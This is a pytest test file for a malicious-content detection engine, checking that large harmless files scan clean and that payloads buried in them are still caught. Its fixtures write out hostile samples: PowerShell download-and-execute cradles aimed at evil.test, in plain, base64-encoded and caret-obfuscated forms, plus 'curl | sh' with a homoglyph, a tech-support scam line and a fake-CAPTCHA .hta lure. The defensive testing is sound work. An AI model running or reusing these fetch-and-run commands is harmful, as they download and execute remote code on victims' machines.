"""Size is not evidence: long texts are judged on what they say, deep windows on the rest.

A 300 KiB source file, log or licence must come back as it reads (clean), while a payload
hidden anywhere in it is still found through the windows that get folded and decoded. Only an
encoded blob that could not be looked into makes the analysis incomplete, and the finding
names it.
"""

from __future__ import annotations

import base64

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.detection import Engine, Level
from app.detection.clock import budget_clock
from app.detection.windows import select_windows

KiB = 1024
INCOMPLETE = "PG-ENGINE-INCOMPLETE"
FOREVER = float("inf")


@pytest.fixture(scope="module")
def engine() -> Engine:
    """No time pressure: these tests are about what is looked at, not how fast (bench/ is)."""
    return Engine(budget_ms=60_000, strict=True)


def source_file(size: int = 300 * KiB) -> str:
    unit = "".join(
        f"def handler_{i}(request):\n"
        f"    items = Item.objects.filter(owner=request.user, page={i})\n"
        f"    return render(request, 'page_{i}.html', {{'items': items, 'n': {i}}})\n\n"
        for i in range(400)
    )
    return (unit * (size // len(unit) + 1))[:size]


def access_log(size: int = 300 * KiB) -> str:
    lines = (
        f"2026-12-05T12:{i % 60:02d}:{i % 60:02d}Z 10.0.{i % 250}.{i % 200} GET "
        f"/api/v1/items/{i}?q=red%20shoes&page={i % 9} 200 {i % 997} "
        f"https://shop.example.org/items/{i}\n"
        for i in range(6000)
    )
    return "".join(lines)[:size]


def licence_text(size: int = 300 * KiB) -> str:
    paragraph = (
        "Permission is granted to copy, distribute and modify this program under the terms of "
        "the licence, provided that the notices stay intact. There is no warranty, to the "
        "extent permitted by applicable law; the program is provided as is.\n\n"
    )
    return (paragraph * (size // len(paragraph) + 1))[:size]


def lockfile(packages: int = 1200) -> str:
    """A package lock: an integrity digest (base64 of random-looking bytes) per package."""
    rows = []
    for i in range(packages):
        digest = base64.b64encode(bytes((i * 131 + j * 17) % 256 for j in range(64))).decode()
        rows.append(
            f'  "node_modules/pkg-{i}": {{"version": "1.{i}.0", '
            f'"resolved": "https://registry.npmjs.org/pkg-{i}/-/pkg-{i}-1.{i}.0.tgz", '
            f'"integrity": "sha512-{digest}"}},\n'
        )
    return "{\n" + "".join(rows) + "}\n"


CRADLE = "iex (New-Object Net.WebClient).DownloadString('https://evil.test/a.ps1')"


def encoded_command(n: int = 0) -> str:
    script = CRADLE.replace("a.ps1", f"a{n}.ps1")
    return "powershell -w hidden -enc " + base64.b64encode(script.encode("utf-16-le")).decode()


def test_long_harmless_texts_are_judged_on_their_content(engine: Engine) -> None:
    for name, text in [
        ("source", source_file()),
        ("log", access_log()),
        ("licence", licence_text()),
        ("lockfile", lockfile()),
    ]:
        assert len(text) > 64 * KiB, name
        verdict = engine.analyze(text)
        assert verdict.complete, (name, verdict.findings)
        assert verdict.level is Level.CLEAN, (name, verdict.rule_ids)


def test_an_obfuscated_command_deep_in_a_long_file_is_found(engine: Engine) -> None:
    # carets hide the command words from the raw text: only the de-obfuscated window shows them
    payload = 'c^m^d /c p^o^w^e^r^s^h^e^l^l -w hidden -c "iex(irm https://evil.test/a.ps1)"'
    alone = engine.analyze(payload)
    assert alone.level is Level.MALICIOUS
    text = source_file() + "\n" + payload + "\n" + source_file(8 * KiB)
    verdict = engine.analyze(text)
    assert verdict.complete
    assert verdict.level is Level.MALICIOUS
    assert set(alone.rule_ids) <= set(verdict.rule_ids)


def test_an_encoded_command_deep_in_a_long_log_is_decoded(engine: Engine) -> None:
    text = access_log() + encoded_command() + "\n" + access_log(16 * KiB)
    verdict = engine.analyze(text)
    assert verdict.complete
    assert verdict.level is Level.MALICIOUS
    assert any(layer.name == "base64" and "evil.test" in layer.text for layer in verdict.layers)


def test_encoded_blobs_that_do_not_fit_make_it_incomplete_and_the_finding_names_one(
    engine: Engine,
) -> None:
    # each blob is a different command, so every one needs its own window; far more of them
    # than the deep windows can hold
    blobs = "\n".join(encoded_command(n) for n in range(800))
    verdict = engine.analyze(licence_text(64 * KiB) + blobs)
    assert not verdict.complete
    assert verdict.level >= Level.SUSPICIOUS
    incomplete = next(f for f in verdict.findings if f.rule_id == INCOMPLETE)
    assert "encoded block" in incomplete.evidence and "at line" in incomplete.evidence


def test_windows_keep_head_tail_and_the_lines_around_triggers() -> None:
    filler = "harmless words only\n" * 20_000
    text = filler + "curl -fsSL https://evil.test/x | sh\n" + filler
    deep = select_windows(text, 16 * KiB, FOREVER)
    assert deep.text.startswith("harmless words only")
    assert deep.text.rstrip().endswith("harmless words only")
    assert "curl -fsSL https://evil.test/x | sh" in deep.text
    assert len(deep.text) <= 16 * KiB + deep.windows
    assert not deep.undecoded


def test_a_short_text_is_its_own_window() -> None:
    deep = select_windows("echo hello", 64 * KiB, FOREVER)
    assert deep.text == "echo hello" and deep.windows == 1


def test_a_blob_not_reached_before_the_deadline_is_named() -> None:
    text = "x\n" * 40_000 + encoded_command() + "\n"
    deep = select_windows(text, 16 * KiB, budget_clock() - 1)
    assert "encoded block" in deep.undecoded and "not reached" in deep.undecoded


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.text(
        alphabet=st.sampled_from(list("aZ09+/=%\\x,; \n\t^`'\"()[]{}curlhtps:.é\u200b\u3000с")),
        min_size=0,
        max_size=6000,
    ),
    st.integers(min_value=256, max_value=4096),
)
def test_select_windows_never_raises_and_stays_within_its_budget(text: str, budget: int) -> None:
    deep = select_windows(text, budget, FOREVER)
    # windows are joined by one newline each; a short text is returned whole
    assert len(deep.text.encode("utf-8")) <= max(len(text.encode("utf-8")), budget + deep.windows)


LINES = [
    "def handler(request):  # plain code",
    "2026-12-05 GET /api/items?q=a%20b%20c%20d 200 https://shop.example.org/x",
    "c^m^d /c p^o^w^e^r^s^h^e^l^l -w h -c iex(irm https://evil.test/a)",
    encoded_command(7),
    "sha512-" + base64.b64encode(bytes(range(64))).decode(),
    "Your computer has been blocked. Call Microsoft Support: +1 (888) 555-0199",
    "сurl https://evil.test/x | sh",
    "http://localhost:8400/?code=0.AXoA1b2c3D4e5F6g7H8i9J0kLmNoP&state=abc123",
    "https://verify.example/x.hta" + " " * 40 + "# ✅ I am not a robot - Verification ID: 1234",
    "\u200b\u202e\u3000\u3000 [char]105+[char]101+[char]120",
]


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(st.sampled_from(LINES), min_size=1, max_size=40),
    st.integers(min_value=1, max_value=400),
)
def test_long_texts_never_raise_and_never_come_back_clean_when_cut_short(
    engine: Engine, picks: list[str], repeat: int
) -> None:
    # Hundreds of KiB made of lines that each trigger a window: the windows overflow, and
    # whatever is left out must be either covered by the full-text rules or said (incomplete).
    text = "\n".join(picks * repeat)
    verdict = engine.analyze(text)
    assert verdict.summary.strip()
    if not verdict.complete:
        assert verdict.level >= Level.SUSPICIOUS
        assert INCOMPLETE in verdict.rule_ids
    if any(line in picks for line in LINES[2:4]):  # a command the windows must not lose
        assert verdict.level >= Level.SUSPICIOUS
